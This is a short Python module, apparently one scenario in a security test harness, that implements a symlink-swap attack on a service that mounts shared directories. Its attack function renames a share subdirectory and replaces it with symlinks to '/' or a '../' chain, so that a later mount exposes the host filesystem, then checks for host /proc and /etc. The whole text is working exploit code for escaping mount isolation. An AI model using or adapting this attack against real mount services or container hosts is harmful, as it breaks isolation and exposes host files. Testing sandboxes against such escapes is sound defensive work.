"""Has a directory of the host mounted as a share: where the service mounts a whole share, a directory in it that is
another share, or that one's parent, makes way for a link; where it mounts that other share, the host is in its place."""

import os


def attack(world):
    share = "/mnt/share"
    if not os.path.isdir(f"{share}/team"):
        return os.path.isdir(f"{share}/proc") and os.path.isdir(f"{share}/etc")
    if world.get("parent"):
        os.rename(f"{share}/team", f"{share}/away")
        os.makedirs(f"{share}/host")
        os.symlink("../" * 16, f"{share}/host/b")
        os.symlink("host", f"{share}/team")
    else:
        os.rename(f"{share}/team/b", f"{share}/team/away")
        os.symlink("/", f"{share}/team/b")
    return False
